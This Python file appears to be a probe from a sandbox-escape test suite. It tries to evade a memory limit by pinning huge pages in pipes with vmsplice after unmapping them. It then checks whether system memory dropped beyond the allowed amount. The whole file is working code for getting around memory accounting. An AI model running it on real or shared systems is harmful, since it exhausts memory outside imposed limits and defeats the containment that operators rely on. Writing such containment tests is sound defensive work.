# Large pages that only a pipe still holds: no process has mapped them.
# text: refused
# user: refused
# needs: memory
import ctypes
import os
import resource
import time
from pathlib import Path


def attempt(outside: Path) -> object:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    large, wanted, held = 2 << 20, int(os.environ["ESCAPE_MEMORY"]) * 3 // 2, 0
    free = int(next(line for line in Path("/proc/meminfo").read_text().splitlines() if line.startswith("MemAvailable")).split()[1])
    while held < wanted:
        reader, writer = os.pipe()
        for _ in range(16):
            place = libc.mmap(None, 2 * large, 3, 0x22, -1, 0)
            begin = (place + large - 1) // large * large
            libc.madvise(ctypes.c_void_p(begin), large, 14)
            ctypes.memset(begin, 1, large)
            part = (ctypes.c_size_t * 2)(begin, 4096)
            if libc.vmsplice(writer, part, 1, 2) <= 0:
                return False
            libc.munmap(ctypes.c_void_p(place), 2 * large)
            held += large
    time.sleep(1.0)
    now = int(next(line for line in Path("/proc/meminfo").read_text().splitlines() if line.startswith("MemAvailable")).split()[1])
    return (free - now) << 10 > wanted * 2 // 3
